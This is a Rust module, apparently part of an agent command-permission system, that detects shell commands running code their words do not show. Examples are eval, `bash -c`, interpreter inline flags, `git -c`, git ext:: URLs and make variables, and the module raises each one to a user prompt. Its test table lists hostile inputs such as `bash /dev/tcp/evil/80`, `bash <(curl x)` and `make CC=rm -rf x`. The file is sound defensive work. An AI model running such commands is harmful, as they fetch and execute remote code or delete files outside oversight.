//! Commands that run code the rules cannot see (spec §12.5, `HARD-RUN-*`).
//!
//! A rule judges a command by its words. When those words are a program in
//! another language, a script on standard input, or a builtin that changes
//! what later commands mean, the words say nothing about what runs: such a
//! command is floored to `ask`, whatever rule matches it.

use crate::hardened::contract::admitted::CODE_BUILTINS;
use crate::hardened::contract::clauses::Clause;
use crate::hardened::contract::names::stem;
use crate::hardened::contract::programs::{self, Program, Quirk};

/// Whether a script operand is not a file bash or an interpreter reads from
/// the tree (`HARD-RUN-2`): standard input, a descriptor, a socket, a
/// process substitution, or a word only run time knows.
#[must_use]
pub fn is_not_a_file(script: &str) -> bool {
    let special = script == "-"
        || script == "/dev/stdin"
        || script.starts_with("/dev/fd/")
        || script.starts_with("/dev/tcp/")
        || script.starts_with("/dev/udp/")
        || (script.starts_with("/proc/") && script.contains("/fd/"));
    special || script.starts_with("<(") || script.contains(['$', '`', '*', '?', '[', '{'])
}

/// The clause that floors a command named `name` (dequoted basename) with
/// arguments `args` (dequoted where literal), if any; with no word known to
/// be literal, so no sed or awk program is admitted (HARD-RUN-5).
#[must_use]
pub fn runs_code<S: AsRef<str>>(name: &str, args: &[S]) -> Option<Clause> {
    runs_code_known(name, args, &[])
}

/// [`runs_code`], with `literal[i]` true when argument `i` is literal text
/// (not computed): sed and awk programs of the admitted subsets then run no
/// command and write no file (HARD-RUN-5).
#[must_use]
pub fn runs_code_known<S: AsRef<str>>(name: &str, args: &[S], literal: &[bool]) -> Option<Clause> {
    let args: Vec<&str> = args.iter().map(AsRef::as_ref).collect();
    let own = programs::row(name);
    let filters = match own {
        Some(row) if row.has(Quirk::SedProgram) => {
            crate::hardened::programs::sed::admitted(&args, literal).is_ok()
        }
        Some(row) if row.has(Quirk::AwkProgram) => {
            crate::hardened::programs::awk::admitted(&args, literal).is_ok()
        }
        _ => false,
    };
    if filters {
        return None;
    }
    if CODE_BUILTINS.contains(&name) || (name == "printf" && args.contains(&"-v")) {
        return Some(Clause::RunBuiltin);
    }
    if prints_and_exits(name, &args) {
        return None;
    }
    let stem = stem(name);
    if programs::named(name, stem, Program::shell) {
        // A `-c` cluster or `--command` runs a string (HARD-RUN-2): bash, sh,
        // dash, zsh and ksh are POL-FLOOR-3's already, the others are not.
        // Windows PowerShell runs its first operand as a command by default.
        let default_command = programs::row(stem).is_some_and(|r| r.has(Quirk::DefaultCommand));
        let string = default_command
            || args.iter().take_while(|a| **a != "--").any(|a| {
                (a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
                    || *a == "--command"
                    || a.starts_with("--command=")
                    || a.eq_ignore_ascii_case("-command")
            });
        return (string || reads_stdin(&args)).then_some(Clause::RunShellStdin);
    }
    if programs::named(name, stem, Program::takes_program) {
        return Some(Clause::RunInline);
    }
    // HARD-RUN-7: a setting whose key is not inert (`git -c`, `apt-get
    // -o`, `python3 -m`), read from the contract's settings table.
    if crate::hardened::programs::settings::live_setting(settings_name(name), &args).is_some() {
        return Some(Clause::RunSetting);
    }
    if own.is_some_and(|r| r.has(Quirk::ExtTransport)) && git_ext_transport(&args) {
        return Some(Clause::RunInline);
    }
    let makefile = programs::row(stem).is_some_and(|r| r.has(Quirk::MakefileAndVariables));
    if makefile && make_runs_unseen(&args) {
        return Some(Clause::RunInline);
    }
    if crate::hardened::programs::runners::option_runs_command(name, &args) {
        return Some(Clause::RunOption);
    }
    let family = interpreter_family(name)?;
    let (long, short) = programs::row(family)?.inline()?;
    let inline = args.iter().any(|arg| {
        long.iter()
            .any(|l| arg == l || arg.strip_prefix(l).is_some_and(|r| r.starts_with('=')))
            || (arg.starts_with('-')
                && !arg.starts_with("--")
                && arg.chars().skip(1).any(|c| short.contains(&c)))
    });
    (inline || reads_stdin(&args)).then_some(Clause::RunInline)
}

/// Whether `name args` is only a version or help query ([`PRINTS_AND_EXITS`]).
fn prints_and_exits(name: &str, args: &[&str]) -> bool {
    let [only] = args else {
        return false;
    };
    programs::named(name, stem(name), |row| row.version_flags.contains(only))
}

/// The name the settings table knows a program by: an interpreter's
/// family (`python3.11` -> `python`), else the name.
fn settings_name(name: &str) -> &str {
    interpreter_family(name).unwrap_or(name)
}

/// Whether `name` is a program some table of §12.5 reads the words of
/// (`HARD-VALUE-7`): then a word whose value only run time knows may be
/// an option, a setting or a command those tables would have read.
#[must_use]
pub fn is_modelled(name: &str) -> bool {
    let name = programs::without_g(name);
    programs::named(name, stem(name), Program::reads_words)
}

/// Whether a word only run time knows stands where the modelled program
/// `name` may read an option, a setting, a subcommand or a command
/// (`HARD-VALUE-7`): before a literal `--`, a word whose value is not
/// exactly known and not known to start with a path (`src/…`, `./…`).
#[must_use]
pub fn reads_unknown_word(name: &str, args: &crate::hardened::words::values::ReadArgs) -> bool {
    if !is_modelled(name) {
        return false;
    }
    for ((text, known), word) in args.texts.iter().zip(&args.known).zip(&args.words) {
        if *known && text == "--" {
            return false;
        }
        if !known && !word.is_path_shaped() {
            return true;
        }
    }
    false
}

/// `python3.11` -> `python`, `nodejs` stays; `None` for anything else.
fn interpreter_family(name: &str) -> Option<&'static str> {
    let stem = stem(name);
    [name, stem]
        .into_iter()
        .filter_map(programs::row)
        .find(|row| row.inline().is_some())
        .map(|row| row.name)
}

/// True when no argument names a script file: no operand, `-`, `-s`, `-i`,
/// or a first operand that is not a file ([`is_not_a_file`]).
fn reads_stdin(args: &[&str]) -> bool {
    let mut skip_next = false;
    for (index, arg) in args.iter().enumerate() {
        if skip_next {
            skip_next = false;
            continue;
        }
        match *arg {
            "-" | "-s" | "-i" => return true,
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" => skip_next = true,
            // After `--` the next argument is the script, if there is one.
            "--" => return args.get(index + 1).is_none_or(|s| is_not_a_file(s)),
            _ if arg.starts_with("<(") => return true,
            _ if arg.starts_with('-') || arg.starts_with('+') => {}
            _ => return is_not_a_file(arg),
        }
    }
    true
}

/// `make` reading a makefile that is not a file (`-f -`, `--file=/dev/stdin`),
/// or given a variable on its command line (`make CC='rm -rf x'`): a
/// recipe runs it, and a command-line value overrides the makefile's.
fn make_runs_unseen(args: &[&str]) -> bool {
    let mut makefile_next = false;
    for arg in args.iter().take_while(|a| **a != "--") {
        if makefile_next {
            if is_not_a_file(arg) {
                return true;
            }
            makefile_next = false;
            continue;
        }
        // GNU getopt takes any unambiguous abbreviation (`--fi=-`).
        let file_option = |name: &str| {
            !name.is_empty() && ("file".starts_with(name) || "makefile".starts_with(name))
        };
        let long = arg
            .strip_prefix("--")
            .and_then(|l| l.split_once('='))
            .filter(|(name, _)| file_option(name))
            .map(|(_, value)| value);
        if let Some(value) = long.or_else(|| arg.strip_prefix("-f").filter(|v| !v.is_empty())) {
            if is_not_a_file(value) {
                return true;
            }
        } else if *arg == "-f" || arg.strip_prefix("--").is_some_and(file_option) {
            makefile_next = true;
        } else if !arg.starts_with('-') && arg.contains('=') {
            return true;
        }
    }
    makefile_next
}

/// A git URL of the `ext::` transport, which runs its text as a command
/// (blocked by git's default `protocol.ext.allow`, which a config the
/// profile does not see can lift).
fn git_ext_transport(args: &[&str]) -> bool {
    args.iter().any(|a| a.contains("ext::"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// HARD-RUN-1..3: which commands run code their words do not show.
    #[test]
    fn hard_run_table() {
        let rows: &[(&str, &[&str], Option<Clause>)] = &[
            ("eval", &["rm x"], Some(Clause::RunBuiltin)),
            (".", &["x.sh"], Some(Clause::RunBuiltin)),
            ("command", &["rm", "x"], Some(Clause::RunBuiltin)),
            ("bash", &[], Some(Clause::RunShellStdin)),
            ("bash", &["-s"], Some(Clause::RunShellStdin)),
            ("bash", &["-o", "pipefail"], Some(Clause::RunShellStdin)),
            ("bash", &["scripts/test.sh"], None),
            ("bash", &["--"], Some(Clause::RunShellStdin)),
            ("bash", &["--", "x.sh"], None),
            ("python3", &["-c", "x"], Some(Clause::RunInline)),
            ("python3.11", &["-Bc", "x"], Some(Clause::RunInline)),
            ("python3", &["manage.py", "test"], None),
            ("python3", &[], Some(Clause::RunInline)),
            ("node", &["-e", "x"], Some(Clause::RunInline)),
            ("node", &["build.js"], None),
            ("perl", &["-ne", "x"], Some(Clause::RunInline)),
            ("awk", &["{print}"], Some(Clause::RunInline)),
            (
                "git",
                &["-c", "core.pager=x", "log"],
                Some(Clause::RunSetting),
            ),
            ("git", &["log", "-c"], None),
            ("bash", &["/dev/stdin"], Some(Clause::RunShellStdin)),
            ("sh", &["/proc/self/fd/0"], Some(Clause::RunShellStdin)),
            ("bash", &["/dev/fd/3"], Some(Clause::RunShellStdin)),
            ("bash", &["<(curl x)"], Some(Clause::RunShellStdin)),
            ("bash", &["/dev/tcp/evil/80"], Some(Clause::RunShellStdin)),
            ("bash", &["--", "/dev/stdin"], Some(Clause::RunShellStdin)),
            ("bash", &["$f"], Some(Clause::RunShellStdin)),
            ("mksh", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("fish", &["--command=rm x"], Some(Clause::RunShellStdin)),
            ("rbash", &[], Some(Clause::RunShellStdin)),
            ("ash", &["x.sh"], None),
            ("python3", &["/dev/stdin"], Some(Clause::RunInline)),
            ("node", &["--eval=x"], Some(Clause::RunInline)),
            ("tclsh", &[], Some(Clause::RunInline)),
            ("tclsh8.6", &["x.tcl"], None),
            ("expect", &["-c", "spawn rm"], Some(Clause::RunInline)),
            ("julia", &["-e", "run(`rm x`)"], Some(Clause::RunInline)),
            ("guile-3.0", &["-c", "x"], Some(Clause::RunInline)),
            ("php", &["-r", "x"], Some(Clause::RunInline)),
            ("perl", &["-Mstrict;print", "x.pl"], Some(Clause::RunInline)),
            ("sqlite3", &["db", ".shell rm x"], Some(Clause::RunInline)),
            ("ls", &["-la"], None),
            // Issue 26, class 8: versioned and static builds, shells and
            // interpreters found missing, programs whose commands shell out.
            ("bash5.2", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("zsh5", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("mksh-static", &[], Some(Clause::RunShellStdin)),
            ("osh", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("toybox", &["sh"], None),
            ("toybox", &[], Some(Clause::RunShellStdin)),
            ("python3-dbg", &["-c", "x"], Some(Clause::RunInline)),
            ("php-cgi", &["-r", "x"], Some(Clause::RunInline)),
            ("bb", &["-e", "x"], Some(Clause::RunInline)),
            ("sbcl", &["--script"], Some(Clause::RunInline)),
            ("sbcl", &["--script", "x.lisp"], None),
            ("m4", &[], Some(Clause::RunInline)),
            ("m4", &["defs.m4"], None),
            ("dc", &["-e", "!rm x"], Some(Clause::RunInline)),
            ("ed", &["-s", "notes.txt"], Some(Clause::RunInline)),
            ("psql", &["-c", "select 1"], Some(Clause::RunInline)),
            (
                "mlr",
                &["-n", "put", "end{system(\"rm x\")}"],
                Some(Clause::RunInline),
            ),
            (
                "git",
                &["fetch", "ext::sh -c rm% x"],
                Some(Clause::RunInline),
            ),
            ("git", &["fetch", "origin"], None),
            ("make", &["-f", "-"], Some(Clause::RunInline)),
            ("make", &["--file=/dev/stdin"], Some(Clause::RunInline)),
            ("make", &["CC=rm -rf x"], Some(Clause::RunInline)),
            ("make", &["-j4", "test"], None),
            (
                "powershell.exe",
                &["Remove-Item x"],
                Some(Clause::RunShellStdin),
            ),
            ("pwsh.exe", &["-c", "rm"], Some(Clause::RunShellStdin)),
            ("pwsh", &["build.ps1"], None),
            ("python3", &["--version"], None),
            ("node", &["-v"], None),
            ("bash", &["--version"], None),
            ("python3", &["-v"], Some(Clause::RunInline)),
            (
                "python3",
                &["--version", "-c", "x"],
                Some(Clause::RunInline),
            ),
            ("sh", &["--version"], Some(Clause::RunShellStdin)),
            ("make", &["-f", "build.mk", "all"], None),
        ];
        for (name, args, want) in rows {
            assert_eq!(runs_code(name, args), *want, "{name} {args:?}");
        }
    }
}
